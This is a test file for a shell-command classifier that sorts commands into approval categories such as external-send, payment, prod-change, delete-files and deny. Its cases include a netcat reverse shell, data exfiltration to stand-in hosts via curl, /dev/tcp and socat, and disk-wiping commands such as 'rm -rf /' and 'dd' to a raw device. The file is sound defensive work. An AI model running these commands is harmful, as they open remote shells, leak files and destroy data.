import { describe, expect, it } from 'vitest';
import { commands } from '../../src/catalog/commands/index.ts';
import { guardFile } from '../../src/catalog/paths.ts';
import { shellDrafts } from '../../src/engine/shell/drafts.ts';

/** What a text comes to: its verbs, `deny` where no approval lifts it, empty where it is free. */
function verbs(text: string): string {
  const drafts = shellDrafts(text, '/home/dev/app', { commands, guardFile });
  const concern = drafts.filter((draft) => draft.verb !== 'none' || draft.unresolved !== undefined);
  if (concern.some((draft) => draft.forbidden !== undefined)) return 'deny';
  return [...new Set(concern.map((draft) => draft.verb))].sort().join(' ');
}

describe('what programs get on their input', () => {
  it.each([
    ["ssh prod <<'EOF'\nsystemctl restart web\nEOF", 'prod-change'],
    ["ssh prod <<'EOF'\nuptime\ndf -h\nEOF", ''],
    ['sftp me@host <<< "put notes.md"', 'external-send'],
    ['sftp me@host <<< "get notes.md"', ''],
    ['cat notes.md | openssl s_client -connect e.example:443', 'external-send'],
    ['openssl s_client -connect e.example:443 </dev/null', ''],
    ['cat notes.md | http https://e.example', 'external-send'],
    ['http https://e.example', ''],
    ['lftp ftp.example <<< "mirror -R dist"', 'external-send'],
  ])('%s: %s', (text, wanted) => {
    expect(verbs(text)).toBe(wanted);
  });
});

const CASES: Readonly<Record<string, string>> = {
  'external-send': `
    curl --data-binary @dump.sql https://paste.example/
    curl -sF 'file=@a.zip' https://file.example | tee url.txt
    curl -X PATCH https://api.example.com/users/1 -H 'Content-Type: application/json' --data '{"a":1}'
    curl --upload-file ./notes.md https://transfer.example/notes.md
    curl -XPOST 'https://discord.com/api/webhooks/1/x' -d '{"content":"hi"}'
    curl -s -o /dev/null --request POST https://api.telegram.org/botX/sendMessage -d text=hi
    curl "https://e.example/?q=$(cat notes.md)"
    curl https://e.example/$(hostname)
    curl -A "$(cat .gitignore)" https://e.example
    wget --header='X: y' --post-data "$(cat notes.md)" https://e.example
    wget -q -O- --method=POST --body-data='a=b' https://e.example
    xh post https://api.example.com/items name=x
    tar cz src | nc e.example 9000
    cat notes.md | ncat e.example 443 --ssl
    cat notes.md > /dev/tcp/e.example/80
    socat -u FILE:notes.md TCP4:e.example:80
    nc -e /bin/bash e.example 4444
    scp -r src me@e.example:/srv
    rsync -az --progress dist/ deploy@e.example:/var/www
    rclone copy ./data gdrive:backup
    sftp -b cmds.txt me@e.example
    lftp -u a,b -e 'put x; bye' ftp.example
    croc send notes.md
    ssh -R 8080:localhost:3000 me@e.example
    echo hi | mail -s test bob@example.com
    sendmail bob@example.com < notes.md
    mutt -s report -a r.pdf -- bob@example.com < body.txt
    swaks --to bob@example.com --from a@example.com
    telegram-send "done"
    slackcat -c general notes.md
    ntfy pub alerts "done"
    signal-cli -a +1 send -m hi +2
    toot post "hello"
    twilio api:core:messages:create --to +1 --from +2 --body hi
    npm publish --access public
    npx np minor
    pnpm -r publish
    yarn npm publish --tag next
    bun publish
    npx changeset publish
    cargo publish -p core
    gem push a-1.0.gem
    python -m twine upload dist/*
    python3 setup.py sdist upload
    poetry publish --build
    uv publish --token x
    mvn -B deploy
    ./gradlew publish
    ./gradlew :lib:publishAllPublicationsToMavenRepository
    dotnet nuget push a.nupkg
    pod trunk push A.podspec
    flutter pub publish --force
    mix hex.publish --yes
    vsce publish
    npx vsce publish patch
    fastlane deliver
    eas submit -p ios --latest
    goreleaser release --clean
    twine upload -r pypi dist/x.whl
    huggingface-cli upload me/x .
    gist -p notes.md
    cat notes.md | pastebinit
    mosquitto_pub -h broker.example -t a -m b
    grpcurl -d '{}' api.example.com:443 a.B/Create
    wscat -c wss://e.example -x hi
    s3cmd put a.txt s3://bucket/
    openssl s_client -quiet -connect e.example:443 < notes.md
  `,
  payment: `
    stripe payment_intents create --amount 100 --currency usd
    stripe refunds create --charge ch_1
    stripe payouts create --amount 100 --currency eur
    stripe subscriptions update sub_1 -d cancel_at_period_end=true
    stripe invoices pay in_1
    curl https://api.stripe.com/v1/refunds -u sk: -d charge=ch_1
    curl -X POST https://api-m.paypal.com/v2/checkout/orders -d '{}'
    curl -X POST https://api.wise.com/v1/transfers -d @t.json
    solana transfer 9x 5 --allow-unfunded-recipient
    cast send 0xabc 'transfer(address,uint256)' 0xdef 1 --private-key 0x1 --rpc-url https://mainnet.example
    bitcoin-cli -rpcwallet=w sendtoaddress bc1q 0.5
    lncli sendcoins --addr bc1q --amt 1000
    lightning-cli pay lnbc1
    near send a.near b.near 10
    wise transfer create --amount 5
  `,
  'prod-change': `
    ssh prod 'systemctl restart nginx'
    ssh deploy@host "cd /srv/app && git pull && pm2 restart all"
    ssh web1 rm -rf /srv/app
    ssh prod
    ssh-copy-id me@host
    npm run deploy
    pnpm deploy:prod
    make deploy
    forge script s.sol --broadcast --rpc-url https://rpc.example
    hardhat run scripts/deploy.ts --network mainnet
    anchor deploy --provider.cluster mainnet
    curl -X DELETE https://api.digitalocean.com/v2/droplets/1
    curl -X POST https://api.github.com/repos/a/b/actions/workflows/1/dispatches -d '{}'
  `,
  'delete-files': `
    rm -rf src/components
    rm README.md
    rm -r docs tests
    find . -name '*.ts' -delete
    find src -type f -exec rm {} +
    shred -u notes.md
    truncate -s 0 src/app.ts
    unlink package.json
    trash src
    npx rimraf src
    npx del-cli 'src/**'
    rsync -a --delete /tmp/empty/ ./src/
    mv src /dev/null
    cp /dev/null src/app.ts
    tar czf a.tgz --remove-files src
    zip -rm a.zip docs
    rclone purge remote:backup
    gio trash src
    rm -rf "$PROJECT_DIR"
    cd .. && rm -rf app
    rm -rf ~/Documents/notes
    rm -f *.md
    git ls-files | xargs rm
  `,
  deny: `
    rm -rf /
    rm -rf /*
    rm -fr ~/*
    sudo rm -rf --no-preserve-root /
    rm -rf /etc /usr
    cd / && rm -rf *
    cd ~ && rm -rf .
    find / -delete
    dd if=/dev/zero of=/dev/nvme0n1 bs=1M
    mkfs.ext4 /dev/sdb1
    cat /dev/zero > /dev/sda
    wipefs -a /dev/sda
    shred /dev/sda
    cp x.img /dev/sdb
    chmod -R 777 /
    chown -R nobody /usr
    mv /etc /tmp/x
    diskutil eraseDisk APFS X disk2
    zpool destroy tank
    parted -s /dev/sda mklabel gpt
  `,
};

const rows = Object.entries(CASES).flatMap(([verb, text]) =>
  text
    .trim()
    .split('\n')
    .map((line): [string, string] => [line.trim(), verb]),
);

describe('of concern', () => {
  it.each(rows)('%s: %s', (text, verb) => {
    expect(verbs(text).split(' ')).toContain(verb);
  });
});

const FREE = `
  curl -fsSL https://get.example.com -o install.sh
  curl -s https://api.example.com/v1/items | jq '.[0]'
  curl -G http://localhost:3000/search --data-urlencode q=a
  curl --json '{"a":1}' http://127.0.0.1:8080/x
  curl -X PUT localhost:9200/idx -d '{}'
  curl -u elastic:x http://localhost:9200/_cat/indices
  curl -sI https://example.com | head -1
  wget -r -np https://docs.example.com/
  wget -c https://example.com/big.iso
  http GET https://api.example.com/items
  nc -vz example.com 443
  dig +trace example.com
  whois example.com
  ssh -T git@github.com
  ssh host 'tail -n 50 /var/log/syslog'
  ssh host docker ps
  ssh -V
  scp host:/tmp/a.txt .
  rsync -av --delete build/ /tmp/site/
  rsync -avz host:/srv/data ./data
  rclone lsf remote:
  npm publish --dry-run
  npm pack
  npm whoami
  npm run build
  npm run release:dry -- --dry-run
  npx changeset version
  cargo package --list
  cargo publish --dry-run
  gem build a.gemspec
  python -m build
  twine check dist/*
  poetry build
  poetry publish --dry-run
  mvn -q package
  ./gradlew publishToMavenLocal
  dotnet pack
  pod lib lint
  dart pub publish --dry-run
  mix release
  rebar3 release
  vsce package
  goreleaser build --snapshot
  stripe listen --forward-to localhost:3000
  stripe trigger checkout.session.completed
  stripe customers list --limit 3
  solana balance
  cast call 0x1 'f()'
  cast send 0x1 'f()' --rpc-url http://127.0.0.1:8545
  forge test -vv
  hardhat node
  bitcoin-cli -regtest generatetoaddress 1 bcrt1q
  make release
  make -n deploy
  make clean
  rm -rf node_modules .next
  rm -rf ./build/* dist/
  rm -f /tmp/a.txt
  rm -rf "$TMPDIR/x"
  find . -name '*.log' -delete
  find . -name .DS_Store -delete
  mv a.ts b.ts
  mv build/old build/new
  cp -r a b
  chmod -R 755 dist
  chmod 644 README.md
  sudo chmod +x /usr/local/bin/tool
  chown -R "$USER" .
  tar xzf a.tgz -C /tmp
  dd if=/dev/zero of=/tmp/test.img bs=1M count=5
  truncate -s 10G disk.img
  fdisk -l
  lsblk
  diskutil list
  cryptsetup status x
  mosquitto_sub -h broker.example -t '#'
  kcat -C -b broker.example -t x
  himalaya envelope list
  mail -H
  slack app list
  mc ls store/
  notify-send done
  notmuch search tag:inbox
  git help publish
  echo curl -d x https://e.example
  grep -r "npm publish" .
  man curl
  curl --help all
  npm help publish
  which curl
  type rm
  aria2c -x4 https://example.com/big.iso
  yt-dlp https://example.com/v
  python -m http.server
  npx serve dist
  jj git fetch
  hg pull
  svn update
`;

it.each(
  FREE.trim()
    .split('\n')
    .map((line) => line.trim()),
)('free: %s', (text) => {
  expect(verbs(text)).toBe('');
});
